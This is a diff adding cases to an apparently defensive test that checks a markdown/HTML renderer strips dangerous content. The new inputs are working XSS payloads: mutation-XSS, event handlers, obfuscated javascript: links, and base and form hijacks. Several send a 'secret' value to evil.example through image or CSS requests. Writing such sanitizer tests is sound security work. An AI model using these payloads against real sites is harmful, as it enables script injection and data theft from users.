@@ -106,9 +106,28 @@ test.each([
   "<style>body{display:none}</style>",
   "[a]: javascript:alert(1)\n\n[a]",
   '<https://a.example/"onclick=alert(1)>',
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<a id=x><base href=https://evil.example/><form action=https://evil.example/><input name=y></form></a>",
+  "<p style=\"background:url(https://evil.example/?q=secret)\">x</p>",
+  "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
+  "[x](&#106;avascript:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a.example/1)",
+  "![secret](//evil.example/pixel.png?q=secret)",
+  "![x][pixel]\n\n[pixel]: https://evil.example/p.png?q=secret",
+  "[![x](https://evil.example/p.png)](javascript:alert(1))",
+  "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
+  "```html\n<script>alert(1)</script>\n```",
+  "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\n```",
+  "$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/p.png}$",
+  "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=alert(1)>",
 ])("nothing of %s can act or reach elsewhere", (text) => {
   const place = drawn(text, [1]);
-  expect(place.querySelectorAll("script, style, svg, img, iframe, form, button, input").length).toBe(0);
+  expect(place.querySelectorAll("script, style, svg, math, img, iframe, form, button, input, base, link, meta").length).toBe(0);
   for (const element of place.querySelectorAll("*")) {
     for (const attribute of element.attributes) {
       expect(attribute.name).not.toMatch(/^on/);
